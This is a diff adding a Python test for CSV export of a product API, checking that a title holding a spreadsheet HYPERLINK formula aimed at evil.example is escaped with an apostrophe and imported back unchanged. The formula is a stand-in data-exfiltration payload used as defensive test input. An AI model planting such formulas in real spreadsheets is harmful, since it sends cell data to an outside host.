@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from typing import Any
 
@@ -291,3 +293,24 @@ def test_an_exported_csv_edited_and_imported_back_updates_by_sku(client: TestCli
         ("Lavender soy candle", "26.50"),
         ("Oat soap", "9.00"),
     ]
+
+
+def test_a_title_a_spreadsheet_would_run_is_exported_as_text_and_imported_back_as_typed(
+    client: TestClient,
+) -> None:
+    auth, store_id = owner_with_store(client)
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    client.post(
+        "/api/products",
+        headers=auth,
+        json={"store_id": store_id, "title": formula, "sku": "F-1", "description": "- soft wax"},
+    )
+
+    exported = client.get(f"/api/products/export?store_id={store_id}", headers=auth).text
+    report = import_csv(client, auth, store_id, exported).json()
+
+    row = next(csv.reader(io.StringIO(exported.splitlines()[1])))
+    assert row[0] == "'" + formula and row[1] == "'- soft wax"
+    assert (report["created"], report["updated"]) == (0, 1)
+    product = client.get(f"/api/products?store_id={store_id}", headers=auth).json()["items"][0]
+    assert (product["title"], product["description"]) == (formula, "- soft wax")
